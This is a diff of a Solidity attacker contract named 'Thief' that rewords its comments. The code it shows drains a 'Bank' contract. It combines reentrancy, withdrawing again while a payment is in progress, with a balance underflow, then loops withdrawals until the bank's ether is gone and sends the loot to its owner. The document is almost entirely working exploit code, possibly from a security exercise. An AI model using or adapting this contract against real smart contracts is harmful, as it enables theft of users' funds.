@@ -6,7 +6,7 @@ interface Bank {
     function withdraw(uint256 amount) external;
 }
 
-/// Brings a little, asks for it, and asks again while it is being paid.
+/// Pays in a little, withdraws it, and withdraws again during the payment.
 contract Thief {
     Bank private immutable bank;
     uint256 private sip;
@@ -19,7 +19,7 @@ contract Thief {
         if (sip > 0) bank.withdraw(sip);
     }
 
-    /// Deposits what comes with the call and takes it out in sips of this size. Loot goes home.
+    /// Deposits the value of the call and withdraws it in sips of this size. Sends the loot to the owner.
     function steal(uint256 amount) external payable {
         bank.ethdeposit{value: msg.value}(address(this));
         sip = amount;
@@ -28,7 +28,7 @@ contract Thief {
         goHome();
     }
 
-    /// After a theft the balance is below zero, and zero is not where it ends: there is plenty left to ask for.
+    /// After a theft the balance has wrapped around below zero, so that more can be withdrawn.
     function clearOut(uint256 amount) external {
         while (address(bank).balance >= amount) bank.withdraw(amount);
         goHome();
